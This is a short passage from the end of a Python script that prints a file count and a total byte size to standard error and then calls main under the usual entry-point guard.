    print(f"{len(LABELS)} files, {total} bytes", file=sys.stderr)


if __name__ == "__main__":
    main()
